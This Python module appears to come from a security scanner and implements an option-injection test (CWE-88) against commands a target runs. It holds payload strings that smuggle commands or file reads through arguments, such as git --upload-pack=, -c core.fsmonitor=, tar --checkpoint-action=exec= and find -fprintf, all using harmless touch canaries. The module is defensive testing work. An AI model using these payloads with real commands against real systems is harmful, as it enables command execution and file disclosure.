"""T-OPT-001: option (argument) injection into a command the target runs (CWE-88)."""

from __future__ import annotations

import os
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from attacks.base import AttackContext, AttackSpec, Target, excerpt, new_evidence, register, take
from toolkit.core.model import Finding, Severity


@dataclass(frozen=True)
class Probe:
    payload: str
    why: str
    side: Path | None = None  # a file the injected option would create
    tokens: tuple[str, ...] = ()  # canary content the injected option would reveal


def corpus(side_dir: Path, tag: str, outside: Path, outside_content: str) -> Iterator[Probe]:
    def side(n: str) -> Path:
        return side_dir / f"toolkit-opt-{tag}-{n}"

    yield Probe(f"--output={side('output')}", "git/diff --output=", side("output"))
    yield Probe(f"-o{side('o')}", "-o<file>", side("o"))
    yield Probe(f"--output-document={side('od')}", "--output-document=", side("od"))
    yield Probe(f"--upload-pack=touch {side('up')}", "--upload-pack=", side("up"))
    yield Probe(f"--receive-pack=touch {side('rp')}", "--receive-pack=", side("rp"))
    yield Probe(f"--exec=touch {side('exec')}", "--exec=", side("exec"))
    yield Probe(f"--to-command=touch {side('tc')}", "tar --to-command=", side("tc"))
    yield Probe(
        f"--checkpoint-action=exec=touch {side('cp')}", "tar --checkpoint-action=", side("cp")
    )
    yield Probe(f"-c core.fsmonitor=touch {side('fsm')}", "git -c core.fsmonitor=", side("fsm"))
    yield Probe(f"--config=core.fsmonitor=touch {side('cfg')}", "git --config=", side("cfg"))
    yield Probe(
        f"--open-files-in-pager=touch {side('pager')}",
        "git grep --open-files-in-pager=",
        side("pager"),
    )
    yield Probe(
        f"--no-index={outside}", "--no-index with an outside file", tokens=(outside_content,)
    )
    yield Probe(f"--file={outside}", "--file= an outside file", tokens=(outside_content,))
    yield Probe(f"--contents={outside}", "git blame --contents=", tokens=(outside_content,))
    yield Probe(f"-fprintf {side('fp')} x", "find -fprintf", side("fp"))


@register
class OptionInjection:
    """Option injection (CWE-88), told apart from shell injection (CWE-78).

    For option surfaces (one argument of a command the target runs, such as a git
    revision or branch name): values that a command would read as an option rather than
    an operand: ``--output=``, ``-o``, ``--upload-pack=``, ``--exec=``,
    ``-c core.fsmonitor=``, ``--open-files-in-pager=``, tar's ``--to-command=`` and
    ``--checkpoint-action=``, ``--no-index``/``--file=``/``--contents=`` pointing at
    an outside canary, find's ``-fprintf``. Computed oracles: a side-effect file created
    in the toolkit's private folder (the argument was taken as an option that wrote or
    ran something), or an outside canary's content in the reply.
    """

    spec = AttackSpec(
        "T-OPT-001", "options", "Option injection into a command", 88, Severity.HIGH, ("option",)
    )

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        side_dir = ctx.canaries.work / "opt-side"
        side_dir.mkdir(parents=True, exist_ok=True)
        outside, content = ctx.canaries.file(ctx.canaries.work / "opt-outside")
        for probe in take(corpus(side_dir, ctx.canaries.token(), outside, content), ctx.limit):
            reply = target.send(probe.payload)
            ctx.seen(self.spec.id, target, probe.payload, reply)
            if probe.side is not None and os.path.lexists(probe.side):
                ctx.canaries.claim(probe.side)
                yield ctx.finding(self.spec, target, "option", probe.payload, reply,
                                  f"{probe.why}: the argument was taken as an option and created "
                                  f"{probe.side.name}", f"option:side:{probe.why}")
                continue
            tok = new_evidence(reply, probe.tokens, target.baseline, probe.payload)
            if tok:
                yield ctx.finding(
                    self.spec,
                    target,
                    "option",
                    probe.payload,
                    reply,
                    f"{probe.why}: outside canary content in the reply: {excerpt(reply.text, tok)}",
                    f"option:read:{probe.why}",
                )
